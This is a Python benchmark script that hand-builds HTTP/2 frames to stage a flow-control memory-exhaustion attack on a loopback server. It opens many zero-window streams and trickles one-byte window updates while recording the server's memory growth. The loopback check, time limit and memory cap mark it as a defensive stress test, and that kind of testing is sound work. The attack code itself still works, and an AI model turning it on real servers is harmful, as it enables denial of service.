#!/usr/bin/env python3
"""HTTP/2 flow-control memory attack (issue 28, item 4), in raw frames (RFC 9113).

Each connection sets SETTINGS_INITIAL_WINDOW_SIZE = 0 and opens --streams GETs for a
large file, so that nothing of any response may be sent:

  zero     the windows stay at 0.
  trickle  every --every seconds each open stream is granted 1 byte of window (and the
           connection what it has received), so that every stream keeps "moving".

It samples the server's resident memory (the sum of VmRSS over --pid, e.g. nginx's master
and workers) every 100 ms for --duration seconds, then closes everything and prints one
JSON line: the memory before, the peak, how many streams were answered, reset or ended
by the server and how many connections it closed. Loopback only; bounded in time, and
it gives up early (closing its connections) once the server's memory passes --rss-cap.

    python3 bench/h2_window.py --port 8443 --tls --path /big.bin --conns 8 \
        --mode zero --duration 15 --pid "$(pgrep -d, gatehouse)"
"""

import argparse
import asyncio
import json
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_ENABLE_PUSH, SETTINGS_INITIAL_WINDOW_SIZE = 0x2, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """RFC 7541 §6.2.2: literal header field without indexing, indexed name."""
    v = value.encode()
    assert index < 15 and len(v) < 127
    return bytes([index, len(v)]) + v


def get_block(path, authority, tls, headers=()):
    # :method GET (2), :scheme https (7) or http (6) from the static table.
    b = bytes([0x82, 0x87 if tls else 0x86]) + literal(4, path) + literal(1, authority)
    for name, value in headers:
        # §6.2.2 with a new name.
        n, v = name.lower().encode(), value.encode()
        b += bytes([0, len(n)]) + n + bytes([len(v)]) + v
    return b


def rss_kib(pids):
    total = 0
    for pid in pids:
        try:
            with open(f"/proc/{pid}/status") as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        total += int(line.split()[1])
        except OSError:
            pass
    return total


class Stats:
    def __init__(self):
        self.answered = 0  # response HEADERS
        self.reset = 0  # RST_STREAM from the server
        self.ended = 0  # END_STREAM from the server
        self.data = 0
        self.closed = 0  # connections the server closed (EOF or GOAWAY)
        self.goaway = 0
        self.refused_connect = 0


class Conn:
    def __init__(self, args, stats):
        self.args, self.stats = args, stats
        self.open_streams = set()
        self.received = 0
        self.alive = False

    async def start(self):
        a = self.args
        ctx = None
        if a.tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
        try:
            self.r, self.w = await asyncio.wait_for(
                asyncio.open_connection(a.host, a.port, ssl=ctx, server_hostname=a.authority if a.tls else None),
                10,
            )
        except (OSError, asyncio.TimeoutError):
            self.stats.refused_connect += 1
            return
        if a.tls and self.w.get_extra_info("ssl_object").selected_alpn_protocol() != "h2":
            raise SystemExit("the server did not negotiate h2")
        self.alive = True
        settings = struct.pack(">HI", SETTINGS_ENABLE_PUSH, 0) + struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0)
        out = [PREFACE, frame(SETTINGS, 0, 0, settings)]
        block = get_block(a.path, a.authority, a.tls, [h.split(":", 1) for h in a.header])
        for i in range(a.streams):
            sid = 1 + 2 * i
            self.open_streams.add(sid)
            out.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, block))
        self.w.write(b"".join(out))
        self.reader = asyncio.ensure_future(self.read())

    async def read(self):
        s = self.stats
        try:
            while True:
                head = await self.r.readexactly(9)
                n = int.from_bytes(head[:3], "big")
                kind, flags, sid = head[3], head[4], int.from_bytes(head[5:9], "big") & 0x7FFFFFFF
                payload = await self.r.readexactly(n) if n else b""
                if kind == SETTINGS and not flags & ACK:
                    self.w.write(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self.w.write(frame(PING, ACK, 0, payload))
                elif kind == HEADERS:
                    s.answered += 1
                elif kind == DATA:
                    s.data += n
                    self.received += n
                elif kind == RST_STREAM:
                    s.reset += 1
                    self.open_streams.discard(sid)
                elif kind == GOAWAY:
                    s.goaway += 1
                if kind in (HEADERS, DATA) and flags & END_STREAM:
                    s.ended += 1
                    self.open_streams.discard(sid)
        except (asyncio.IncompleteReadError, OSError, ssl.SSLError):
            pass
        if self.alive:
            self.alive = False
            s.closed += 1

    def trickle(self):
        if not self.alive:
            return
        out = [frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 1)) for sid in sorted(self.open_streams)]
        if self.received:
            out.append(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", self.received)))
            self.received = 0
        try:
            self.w.write(b"".join(out))
        except (OSError, RuntimeError):
            pass

    def close(self):
        if hasattr(self, "w"):
            self.w.transport.abort()


async def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", action="store_true")
    p.add_argument("--authority", default="localhost")
    p.add_argument("--path", default="/big.bin")
    p.add_argument("--conns", type=int, default=8)
    p.add_argument("--streams", type=int, default=256)
    p.add_argument("--mode", choices=["zero", "trickle"], default="zero")
    p.add_argument("--every", type=float, default=3.0, help="trickle period, seconds")
    p.add_argument("--duration", type=float, default=15.0)
    p.add_argument("--pid", required=True, help="the server's processes, comma-separated")
    p.add_argument("--rss-cap", type=int, default=2048, help="MiB: stop early past this")
    p.add_argument("--header", action="append", default=[], help="name:value, sent with each GET")
    a = p.parse_args()
    if a.host not in ("127.0.0.1", "localhost", "::1"):
        raise SystemExit("loopback only")
    pids = [int(x) for x in a.pid.split(",") if x]
    stats = Stats()
    before = rss_kib(pids)
    peak = before
    started = time.monotonic()
    conns = [Conn(a, stats) for _ in range(a.conns)]
    await asyncio.gather(*(c.start() for c in conns))
    capped = False
    next_trickle = time.monotonic() + a.every
    while time.monotonic() - started < a.duration:
        await asyncio.sleep(0.1)
        now_rss = rss_kib(pids)
        peak = max(peak, now_rss)
        if now_rss > a.rss_cap * 1024:
            capped = True
            break
        if a.mode == "trickle" and time.monotonic() >= next_trickle:
            next_trickle += a.every
            for c in conns:
                c.trickle()
    alive = sum(c.alive for c in conns)
    closed_by_server = stats.closed
    for c in conns:
        c.close()
    await asyncio.sleep(0.2)
    print(
        json.dumps(
            {
                "mode": a.mode,
                "conns": a.conns,
                "streams": a.streams,
                "rss_before_kib": before,
                "rss_peak_kib": peak,
                "capped": capped,
                "seconds": round(time.monotonic() - started, 1),
                "answered": stats.answered,
                "reset": stats.reset,
                "ended": stats.ended,
                "data_bytes": stats.data,
                "conns_alive_at_end": alive,
                "conns_closed_by_server": closed_by_server,
                "connect_failed": stats.refused_connect,
            }
        )
    )


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
